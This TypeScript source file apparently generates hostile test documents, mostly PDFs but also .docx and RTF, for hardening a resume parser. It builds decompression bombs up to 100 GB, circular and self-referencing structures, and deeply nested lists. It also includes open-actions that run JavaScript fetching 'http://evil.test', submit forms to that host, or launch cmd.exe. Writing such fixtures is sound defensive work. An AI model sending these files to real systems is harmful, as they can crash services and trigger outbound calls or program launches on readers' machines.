/**
 * Files made to hurt whoever reads them, most of them PDFs, each with the least that a reader needs
 * to believe it.
 */
import { constants, deflateSync } from 'node:zlib'
import { strToU8, zipSync } from 'fflate'

type Made = string | Uint8Array

/**
 * A file of these objects, the first of which is its root. A stream is its dictionary and its
 * bytes.
 */
function fileOf(
  objects: readonly (Made | readonly [dictionary: string, bytes: Uint8Array])[],
  trailer = '',
): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')]
  let at = parts[0]!.length
  const add = (part: Made) => {
    const bytes = typeof part === 'string' ? Buffer.from(part, 'latin1') : Buffer.from(part)
    parts.push(bytes)
    at += bytes.length
  }
  const places = objects.map((body, index) => {
    const place = at
    add(`${index + 1} 0 obj\n`)
    if (Array.isArray(body)) {
      add(`<< ${body[0]} /Length ${body[1].length} >>\nstream\n`)
      add(body[1])
      add('\nendstream')
    } else add(body as Made)
    add('\nendobj\n')
    return place
  })
  const start = at
  const rows = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('')
  add(`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}`)
  add(
    'trailer\n' +
      `<< /Size ${objects.length + 1} /Root 1 0 R ${trailer.replace('START', String(start))} ` +
      '>>\n',
  )
  add(`startxref\n${start}\n%%EOF`)
  return Buffer.concat(parts)
}

type Stream = readonly [dictionary: string, bytes: Uint8Array]
const CATALOG = '<< /Type /Catalog /Pages 2 0 R >>'
const PAGES = '<< /Type /Pages /Count 1 /Kids [3 0 R] >>'
const page = (more = '', resources = '/Font << /F 5 0 R >>') =>
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R /Resources << ' +
  `${resources} >> ${more} >>`
const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'
const plain = (text: string): Stream => ['', Buffer.from(text, 'latin1')]
const TEXT = 'BT /F 12 Tf 50 700 Td (SQL and Python and whatever a resume says) Tj ET\n'
const oneOf = (content: Stream, ...more: (Made | Stream)[]) =>
  fileOf([CATALOG, PAGES, page(), content, FONT, ...more])

/** What unpacks to so many megabytes: one packed part, over and over. */
function bomb(text: string, megabytes: number): Uint8Array {
  const part = Buffer.from(text.repeat(Math.ceil((16 * 1024 * 1024) / text.length)))
  const packed = deflateSync(part, { level: 9, finishFlush: constants.Z_FULL_FLUSH })
  const body = packed.subarray(2)
  return Buffer.concat([
    packed.subarray(0, 2),
    ...Array.from({ length: Math.ceil(megabytes / 16) }, () => body),
  ])
}

const packed = (bytes: Uint8Array, filters = '/FlateDecode'): Stream => [
  `/Filter ${filters}`,
  bytes,
]
const cmap = (rows: string) =>
  plain(`/CIDInit /ProcSet findresource begin begincmap\n${rows}\nendcmap end`)
const composite = (map: Stream, text = '<00010002>', descendant = '') =>
  fileOf([
    CATALOG,
    PAGES,
    page(),
    plain(`BT /F 12 Tf 50 700 Td ${text} Tj ET`),
    '<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /DescendantFonts [6 0 ' +
      'R] /ToUnicode 7 0 R >>',
    '<< /Type /Font /Subtype /CIDFontType2 /BaseFont /X /CIDSystemInfo << /Registry (A) ' +
      `/Ordering (I) /Supplement 0 >> ${descendant} >>`,
    map,
  ])
const action = (what: string) =>
  fileOf([
    CATALOG.replace('>>', `/OpenAction ${what} >>`),
    PAGES,
    page(`/AA << /O ${what} >>`),
    plain(TEXT),
    FONT,
  ])

/** Each by what it is. */
export const HOSTILE: Readonly<Record<string, () => Uint8Array>> = {
  'spaces that unpack to 2 GB': () => oneOf(packed(bomb(' ', 2048))),
  'text that unpacks to 2 GB': () => oneOf(packed(bomb('(SQL) Tj ', 2048))),
  'pages of 512 MB each': () => oneOf(packed(bomb(TEXT, 512))),
  'drawings that unpack to 2 GB': () => oneOf(packed(bomb('0 0 m 1 1 l S ', 2048))),
  'states that unpack to 2 GB': () => oneOf(packed(bomb('q Q ', 2048))),
  'packed twice, 100 GB': () =>
    oneOf(packed(deflateSync(bomb(' ', 102_400)), '[/FlateDecode /FlateDecode]')),
  'runs that unpack to 600 MB': () =>
    oneOf(packed(Buffer.alloc(9_000_000, 0x81), '/RunLengthDecode')),
  'a million strings': () => oneOf(plain(`BT /F 12 Tf ${'(a) Tj 0 -9 Td '.repeat(600_000)} ET`)),
  'a page that is its own parent': () =>
    fileOf([CATALOG, '<< /Type /Pages /Count 1 /Kids [2 0 R] >>']),
  'pages in a circle': () =>
    fileOf([
      CATALOG,
      '<< /Type /Pages /Count 9 /Kids [3 0 R] >>',
      '<< /Type /Pages /Count 9 /Parent 2 0 R /Kids [2 0 R] >>',
    ]),
  'a billion pages that are not there': () =>
    fileOf([CATALOG, PAGES.replace('Count 1', 'Count 1000000000'), page(), plain(TEXT), FONT]),
  'a drawing that draws itself': () =>
    fileOf([
      CATALOG,
      PAGES,
      page('', '/XObject << /X 5 0 R >>'),
      plain('/X Do '.repeat(1000)),
      [
        '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >>',
        Buffer.from('/X Do '.repeat(1000)),
      ],
    ]),
  'drawings of drawings, 10 to the ninth': () =>
    fileOf([
      CATALOG,
      PAGES,
      page('', '/XObject << /X 5 0 R >>'),
      plain('/X Do '.repeat(10)),
      ...Array.from(
        { length: 9 },
        (_, n): Stream => [
          '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X ' +
            `${6 + n} 0 R >> >>`,
          Buffer.from('/X Do '.repeat(10)),
        ],
      ),
    ]),
  'a table of objects before itself': () =>
    fileOf([CATALOG, PAGES, page(), plain(TEXT), FONT], '/Prev START'),
  'no table of objects': () =>
    Buffer.from(
      oneOf(plain(TEXT))
        .toString('latin1')
        .replace(/xref[\s\S]*$/, ''),
      'latin1',
    ),
  'a table that points anywhere': () =>
    Buffer.from(
      oneOf(plain(TEXT))
        .toString('latin1')
        .replace(/\d{10} 00000 n/g, '0000000017 00000 n'),
      'latin1',
    ),
  'nine megabytes of beginnings of objects': () =>
    Buffer.from(`%PDF-1.7\n${'1 0 obj << '.repeat(800_000)}`),
  'nine megabytes of tables': () =>
    Buffer.from(`%PDF-1.7\n${'trailer << /Root 1 0 R >> '.repeat(340_000)}`),
  'a million letters at one height': () =>
    oneOf(plain(`BT /F 1 Tf 50 700 Td ${'(a) Tj 2 0 Td (b) Tj -1 .01 Td '.repeat(300_000)} ET`)),
  'a million fields': () =>
    fileOf([
      CATALOG.replace('>>', '/AcroForm << /Fields [6 0 R] >> >>'),
      PAGES,
      page(`/Annots [${'6 0 R '.repeat(1_400_000)}]`),
      plain(TEXT),
      FONT,
      '<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (SQL) /Rect [9 9 99 99] >>',
    ]),
  'lists in lists, four million': () =>
    fileOf([
      CATALOG.replace('>>', `/X ${'['.repeat(4_000_000)} >>`),
      PAGES,
      page(),
      plain(TEXT),
      FONT,
    ]),
  'lists in lists, in what is drawn': () => oneOf(plain(`${'['.repeat(4_000_000)} TJ`)),
  'two hundred thousand objects': () =>
    fileOf([
      CATALOG,
      PAGES,
      page(),
      plain(TEXT),
      FONT,
      ...Array.from({ length: 200_000 }, () => '<< /A 1 >>'),
    ]),
  'objects that refer to themselves': () =>
    fileOf([CATALOG, PAGES, page().replace('4 0 R', '6 0 R'), plain(TEXT), FONT, '6 0 R']),
  'a length that is itself': () =>
    Buffer.from(
      oneOf(plain(TEXT))
        .toString('latin1')
        .replace(/\/Length \d+/, '/Length 4 0 R'),
      'latin1',
    ),
  'a script when it opens': () =>
    action('<< /S /JavaScript /JS (app.alert\\(1\\); fetch\\("http://evil.test"\\)) >>'),
  'an address when it opens': () => action('<< /S /URI /URI (http://evil.test/) >>'),
  'a form that sends itself': () =>
    action('<< /S /SubmitForm /F << /FS /URL /F (http://evil.test/) >> >>'),
  'a program when it opens': () => action('<< /S /Launch /F (cmd.exe) >>'),
  'a stream that lies elsewhere': () =>
    oneOf(['/F << /FS /URL /F (http://evil.test/x) >>', Buffer.from(TEXT)]),
  'a page as large as a country': () =>
    fileOf([CATALOG, PAGES, page().replace('0 0 600 800', '0 0 1e300 1e300'), plain(TEXT), FONT]),
  'letters a light year apart': () =>
    oneOf(plain('BT /F 1e30 Tf 1e300 1e300 Td (SQL) Tj -1e300 -1e300 Td (Python) Tj ET')),
  'a map of four billion letters': () =>
    composite(cmap('1 beginbfrange <00000000> <ffffffff> <0041> endbfrange')),
  'a thousand maps of sixteen million letters': () =>
    composite(
      cmap(
        Array.from(
          { length: 1000 },
          () => '1 beginbfrange <000000> <ffffff> <0041> endbfrange',
        ).join('\n'),
      ),
    ),
  'a letter that means a megabyte': () =>
    composite(
      cmap(`1 beginbfchar <0001> <${'0041'.repeat(500_000)}> endbfchar`),
      `<${'0001'.repeat(20_000)}>`,
    ),
  'a map that uses itself': () =>
    composite(['/Type /CMap /UseCMap 7 0 R', Buffer.from('7 0 R usecmap begincmap endcmap')]),
  'widths of four billion letters': () => composite(cmap(''), '<0001>', '/W [0 4294967295 500]'),
  'a lock of a kind that nobody knows': () =>
    fileOf(
      [CATALOG, PAGES, page(), plain(TEXT), FONT, '<< /Filter /Other /V 9 /R 9 >>'],
      '/Encrypt 6 0 R /ID [<00> <00>]',
    ),
  'a lock that takes long': () =>
    fileOf(
      [
        CATALOG,
        PAGES,
        page(),
        plain(TEXT),
        FONT,
        `<< /Filter /Standard /V 5 /R 6 /Length 256 /P -4 /O <${'41'.repeat(48)}> /U ` +
          `<${'42'.repeat(48)}> /OE <${'43'.repeat(32)}> /UE <${'44'.repeat(32)}> /Perms ` +
          `<${'45'.repeat(16)}> >>`,
      ],
      '/Encrypt 6 0 R /ID [<00> <00>]',
    ),
  'a .docx of elements in elements, four million': () => docx('<w:p>'.repeat(3_900_000)),
  'a .docx of attributes, four million': () => docx(`<w:p ${'a="" '.repeat(3_900_000)}/>`),
  'a .docx of nothing but spaces': () => docx(`<w:t>${' '.repeat(19_000_000)}</w:t>`),
  'RTF of groups in groups, ten million': () => Buffer.from(`{\\rtf1 ${'{'.repeat(10_000_000)}`),
  'RTF of two million letters in numbers': () =>
    Buffer.from(`{\\rtf1 ${"\\'e0".repeat(2_400_000)}`),
  'nothing but its mark, ten megabytes': () => Buffer.from('%PDF-'.repeat(2_000_000)),
  'noise after its mark': () => Buffer.concat([Buffer.from('%PDF-1.7\n'), noise(2_000_000)]),
}

const docx = (xml: string) => zipSync({ 'word/document.xml': strToU8(xml) })

/** The same each time. */
function noise(length: number): Buffer {
  const bytes = Buffer.alloc(length)
  let state = 20_261_128
  for (let at = 0; at < length; at++) {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0
    bytes[at] = state >>> 24
  }
  return bytes
}
